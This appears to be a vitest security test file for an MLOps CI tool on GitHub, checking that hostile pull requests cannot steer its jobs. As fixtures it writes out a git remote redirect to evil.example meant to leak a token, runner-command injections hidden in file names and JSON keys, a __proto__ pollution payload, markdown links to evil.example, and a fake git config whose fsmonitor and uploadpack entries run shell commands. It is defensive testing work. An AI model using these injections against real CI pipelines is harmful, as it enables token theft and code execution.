// What a hostile pull request, its stages, its report, or a comment below it could make a job do.
import { once } from 'node:events';
import { existsSync, mkdirSync, readdirSync, symlinkSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { openGithub } from '../forge/github.ts';
import { commentHtml } from '../render/github.ts';
import { openRig, type Rig } from '../rig.ts';
import { onGithub, pullOf } from './ci-host.ts';
import { expectExit } from './story.ts';

async function opened(cmd = 'cat in.txt > out.txt'): Promise<Rig & { readonly head: string }> {
  const rig = await openRig();
  rig.write({
    'pipeline.yaml': `stages:\n  copy:\n    cmd: ${cmd}\n    deps: [in.txt]\n    outs: [out.txt]\n`,
    'in.txt': 'a',
  });
  return Object.assign(rig, { head: await rig.commit('pipeline') });
}

/** What is written for the runner alone, with what it would obey: https://github.com/actions/runner, ActionCommand.cs. */
function obeyed(log: string): string[] {
  const done: string[] = [];
  let stopped: string | undefined;
  for (const line of log.split(/\r?\n/)) {
    const command = /^\s*::([\w-]+)[ :]/.exec(line)?.[1] ?? /##\[([\w-]+)/.exec(line)?.[1];
    if (stopped !== undefined) {
      if (line.trim() === `::${stopped}::`) stopped = undefined;
    } else if (command === 'stop-commands') stopped = line.split('::')[2];
    else if (command !== undefined && !command.endsWith('group')) done.push(command);
  }
  return done;
}

/** Hosts that were asked for through a proxy which lets nobody through. */
async function proxy(): Promise<{ readonly url: string; readonly asked: ReadonlySet<string> }> {
  const asked = new Set<string>();
  const server = createServer().on('connect', ({ url }, socket) => {
    asked.add(url!);
    socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

it('a stage cannot lead the token of its job to another host', async () => {
  const rig = await opened(
    'git remote set-url origin https://evil.example/octo/weather && cp in.txt out.txt',
  );
  await rig.git('remote', 'add', 'origin', 'https://git.example/octo/weather.git');
  const { url, asked } = await proxy();
  const env = { HTTPS_PROXY: url, https_proxy: url, GITHUB_TOKEN: 'ghs_secret', NO_PROXY: '' };
  expectExit(await rig.mlopsWith({ env }, 'ci', '--event', 'push', '--no-comment', '--commit', 'no'), 6);
  expect(rig.read('out.txt')).toBe('a');
  expect([...asked]).toEqual(['git.example:443']);
});

describe('the folder of the report', () => {
  it('is made nowhere that a link of the repository leads to', async () => {
    const rig = await opened();
    const elsewhere = rig.beside('elsewhere');
    mkdirSync(elsewhere);
    symlinkSync('../elsewhere', join(rig.path, 'mlops-report'));
    symlinkSync('../elsewhere', join(rig.path, 'reports'));
    for (const out of ['mlops-report', 'reports/ci', 'reports/../mlops-report']) {
      const { stderr } = expectExit(await rig.mlops('ci', 'run', '--out', out), 7);
      expect(stderr).toContain('is a link');
    }
    expect(readdirSync(elsewhere)).toEqual([]);
    expect(existsSync(join(rig.path, 'out.txt'))).toBe(false);
    expectExit(await rig.mlops('ci', 'run', '--out', '../elsewhere/new'), 0);
  });

  it('of somebody else is refused without a word to the runner', async () => {
    const rig = await opened();
    rig.write({ 'mlops-report/a\n##[add-mask]a': '', 'mlops-report/b\n::error::b': '' });
    const { env } = onGithub(rig, 'push', {});
    const { stdout, stderr } = expectExit(await rig.mlopsWith({ env }, 'ci', 'run'), 7);
    expect(stdout).toContain('is no folder of a report');
    expect(obeyed(`${stdout}${stderr}`)).toEqual([]);
  });
});

describe('a report that a stranger made', () => {
  async function postedAs(change: (record: never) => unknown) {
    const rig = await opened();
    expectExit(await rig.mlops('ci', 'run'), 0);
    const github = await openGithub({ bare: rig.path });
    const head = { repository: 'mallory/weather', branch: 'topic', sha: rig.head };
    github.openPull({ head } as never);
    const record = JSON.parse(rig.read('mlops-report/ci.json'));
    rig.write({ 'mlops-report/ci.json': change(record as never) as never });
    const payload = {
      workflow_run: {
        head_sha: rig.head,
        head_branch: 'topic',
        head_repository: { full_name: 'mallory/weather' },
        conclusion: 'success',
      },
    };
    const { env } = onGithub(rig, 'workflow_run', payload, {
      GITHUB_API_URL: github.url,
      GITHUB_REPOSITORY: 'octo/weather',
      MLOPS_CI_TOKEN: github.token,
    });
    return { github, ended: await rig.mlopsWith({ env }, 'ci', 'post') };
  }

  it('gives the runner no command, neither by its words nor by its keys', async () => {
    for (const change of [{ schema: '\n::error::x' }, { '\n##[add-mask]x\r::add-mask::x': 1 }]) {
      const { ended } = await postedAs((record: object) => ({ ...record, ...change }));
      const { stdout, stderr } = expectExit(ended, 4);
      expect(stdout).toContain('is no report');
      expect(obeyed(`${stdout}${stderr}`)).toEqual(['add-mask']);
    }
  });

  it('may have a key of JavaScript: it is refused; deep is only what nobody reads', async () => {
    const proto = await postedAs((record) =>
      JSON.stringify(record).replace('{', '{"__proto__": {"state": "done"},'),
    );
    expect(expectExit(proto.ended, 4).stdout).toContain('__proto__');
    expect(proto.github.log).toEqual([]);
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const { ended } = await postedAs((record) =>
      JSON.stringify(record).replace(/"context":\s*\{/, `"context": {"deep": ${deep},`),
    );
    expectExit(ended, 0);
  });

  it('with more than anybody reads is posted as far as a comment holds it', async () => {
    const many = <T>(count: number, each: (n: number) => T) =>
      Array.from({ length: count }, (_, n) => each(n));
    const { ended, github } = await postedAs((record: { view: { stages: object[]; run: object } }) => ({
      ...record,
      view: {
        ...record.view,
        stages: many(5_000, (n) => ({ ...record.view.stages[0], stage: `s${n}` })),
        tables: [
          {
            path: 'wide.csv',
            rows: { was: 1, now: 1 },
            columns: {
              added: many(50_000, (n) => ({ name: `c${n}`, type: 'TEXT' })),
              removed: [],
              retyped: [],
            },
            unavailable: null,
          },
        ],
        run: {
          ...record.view.run,
          failures: many(20_000, (n) => ({
            exit: 'stage',
            message: `@admin [x](https://evil.example/${n})`,
          })),
        },
      },
    }));
    expectExit(ended, 0);
    const [comment] = github.state.comments;
    expect([...comment!.body].length).toBeLessThan(65_536);
    expect(commentHtml(comment!.body)).not.toMatch(/href="[^"]*evil|>[^<]*@admin[^<]*<\/(?!code)/);
  });
});

it('a job of a comment below a pull request says nothing about the default branch', async () => {
  const rig = await opened();
  const github = await openGithub({ bare: rig.path });
  const payload = { issue: { number: 7, pull_request: {} }, repository: { default_branch: 'main' } };
  const api = { GITHUB_API_URL: github.url, GITHUB_REPOSITORY: 'octo/weather', GITHUB_SHA: rig.head };
  const { env } = onGithub(rig, 'issue_comment', payload, api);
  expectExit(await rig.mlopsWith({ env }, 'ci', 'run', '--trust'), 0);
  const posting = { env: { ...env, MLOPS_CI_TOKEN: github.token } };
  const { stdout } = expectExit(await rig.mlopsWith(posting, 'ci', 'post', '--issue', 'gate'), 0);
  expect(stdout).toContain('nothing says which pull request');
  expect(github.log).toEqual([]);
});

it('a pull request reads its settings from nowhere but its base, whatever it calls them', async () => {
  const rig = await opened();
  const base = rig.head;
  await rig.git('checkout', '-qb', 'topic');
  const evil = `remote: evil\nremotes:\n  evil: {url: "file://${rig.beside('evil')}"}\n`;
  rig.write({
    '.mlops/config.yaml': evil,
    '.mlops/local.yaml': evil,
    '.mlops/config.local.yaml': evil,
    '.env': `MLOPS_CONFIG_REV=HEAD\nMLOPS_SCOPE=main\n`,
    'mlops.config.mjs': 'throw new Error("read")',
    'node.config.json': '{"nodeOptions": {"import": ["./mlops.config.mjs"]}}',
  });
  const head = await rig.commit('evil');
  const { env } = onGithub(rig, 'pull_request', pullOf(head, base));
  expectExit(await rig.mlopsWith({ env }, 'ci', 'run'), 0);
  expect(existsSync(rig.beside('evil'))).toBe(false);
  // Nor does a step that asks for what the lock of its own repository names.
  rig.write({ 'got.txt': null, '.mlops/config.yaml': 'remotes: {evil: {url: "s3://evil"' });
  const got = await rig.mlopsWith(
    { env: { MLOPS_CONFIG_REV: base } },
    'get',
    '.',
    'out.txt',
    '-o',
    'got.txt',
  );
  expectExit(got, 0);
  expectExit(await rig.mlops('get', '.', 'out.txt', '-o', 'got.txt', '--force'), 4);
});

it('a folder of the repository that looks like a repository of Git itself is none', async () => {
  const rig = await opened();
  const trap = rig.beside('trapped');
  rig.write({
    'ml/HEAD': 'ref: refs/heads/main\n',
    'ml/objects/keep': '',
    'ml/refs/heads/main': `${rig.head}\n`,
    'ml/config': `[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch '${trap}'; false"\n[remote "origin"]\n\turl = .\n\tuploadpack = "touch '${trap}'; false"\n`,
    'ml/objects/info/alternates': `${join(rig.path, '.git/objects')}\n`,
  });
  const payload = pullOf(rig.head, rig.head, 'mallory/rides');
  const { env } = onGithub(rig, 'pull_request_target', payload, { AWS_SECRET_ACCESS_KEY: 'x' });
  for (const half of ['run', 'post']) {
    const { stdout, stderr } = expectExit(await rig.mlopsWith({ env, cwd: 'ml' }, 'ci', half), 4);
    expect(`${stdout}${stderr}`).toContain('no work tree');
  }
  expect(existsSync(trap)).toBe(false);
});
